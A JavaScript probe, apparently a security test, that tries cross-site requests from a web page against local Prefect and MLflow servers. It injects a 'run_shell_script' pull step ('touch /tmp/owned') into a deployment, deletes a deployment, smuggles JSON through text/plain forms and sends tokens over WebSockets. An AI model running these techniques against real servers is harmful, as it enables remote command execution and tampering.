// What a page may try against servers on the reader's machine. Gives, for each attempt, "nothing" or what it got.
(async () => {
  const t = TARGETS;
  const results = {};
  const note = (name, value) => { results[name] = value; };
  const soon = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 3000, "nothing"))]);
  const attempt = async (name, work) => {
    let outcome;
    try { outcome = await soon(work()); } catch (error) { outcome = "nothing"; }
    note(name, outcome === undefined ? "nothing" : outcome);
  };

  const steps = JSON.stringify({ pull_steps: [{ "prefect.deployments.steps.run_shell_script": { script: "touch /tmp/owned" } }] });
  const writes = [
    ...t.prefect.flatMap((base) => [
      ["PATCH", `${base}/api/deployments/${t.deployment}`, steps],
      ["POST", `${base}/api/deployments/${t.deployment}/create_flow_run`, "{}"],
      ["POST", `${base}/api/flows/`, '{"name": "foreign"}'],
      ["POST", `${base}/api/variables/`, '{"name": "foreign", "value": 1}'],
      ["DELETE", `${base}/api/deployments/${t.deployment}`, undefined],
      ["POST", `${base}/api/deployments/filter`, "{}"],
    ]),
    ...t.mlflow.flatMap((base) => [
      ["POST", `${base}/ajax-api/2.0/mlflow/experiments/create`, '{"name": "foreign"}'],
      ["PUT", `${base}/api/2.0/mlflow-artifacts/artifacts/foreign.txt`, "x"],
      ["GET", `${base}/ajax-api/2.0/mlflow/experiments/search?max_results=9`, undefined],
    ]),
  ];
  for (const [method, url, body] of writes) {
    const ways = [
      ["cors", {}, "include"],
      ["cors", { "Content-Type": "application/json" }, "omit"],
      // As if the password had leaked.
      ["cors", { Authorization: t.password }, "omit"],
      ["no-cors", {}, "include"],
    ];
    for (const [mode, headers, credentials] of ways) {
      if (mode === "no-cors" && !["GET", "POST"].includes(method)) continue;
      await attempt(`${mode} ${credentials} ${method} ${url} ${Object.keys(headers)}`, async () => {
        // Bytes without a type: no Content-Type is sent, and no preflight for a POST.
        const sent = body === undefined ? undefined : headers["Content-Type"] ? body : new Blob([body]);
        const answer = await fetch(url, { method, mode, headers, body: sent, credentials });
        return answer.type === "opaque" ? "nothing" : `${answer.status} ${await answer.text()}`;
      });
    }
  }
  const posts = writes.filter(([method]) => method === "POST");
  for (const [, url, body] of posts) {
    navigator.sendBeacon(url, new Blob([body]));
    const frame = document.createElement("iframe");
    frame.name = `frame ${url}`;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: url, target: frame.name, enctype: "text/plain" });
    const field = document.createElement("input");
    field.name = body.slice(0, -1) + ', "x": "';
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    form.submit();
  }
  for (const base of [...t.prefect, ...t.mlflow]) {
    for (const kind of ["iframe", "img", "script", "link", "object"]) {
      await attempt(`${kind} ${base}`, () => new Promise((done) => {
        const element = document.createElement(kind);
        const address = kind === "script" ? `${base}/ui-settings` : `${base}/`;
        if (kind === "link") Object.assign(element, { rel: "stylesheet", href: address });
        else if (kind === "object") element.data = address;
        else element.src = address;
        element.onload = () => {
          let seen;
          try { seen = element.contentDocument && element.contentDocument.body.innerText; } catch (error) { seen = null; }
          // A frame that shows the browser's own error page is loaded, too: it is no document of ours.
          done(kind === "iframe" || kind === "object" ? (seen ? `read ${seen}` : "nothing") : "loaded");
        };
        element.onerror = () => done("nothing");
        document.body.append(element);
      }));
    }
  }
  for (const url of t.sockets) {
    for (const protocols of [[], ["prefect"]]) {
      await attempt(`socket ${url} ${protocols}`, () => new Promise((done) => {
        const socket = new WebSocket(url, protocols);
        socket.onopen = () => socket.send(JSON.stringify({ type: "auth", token: t.token }));
        socket.onmessage = (message) => done(`received ${message.data}`);
        socket.onclose = () => done("nothing");
      }));
    }
  }
  await new Promise((done) => setTimeout(done, 2000));
  return results;
})()
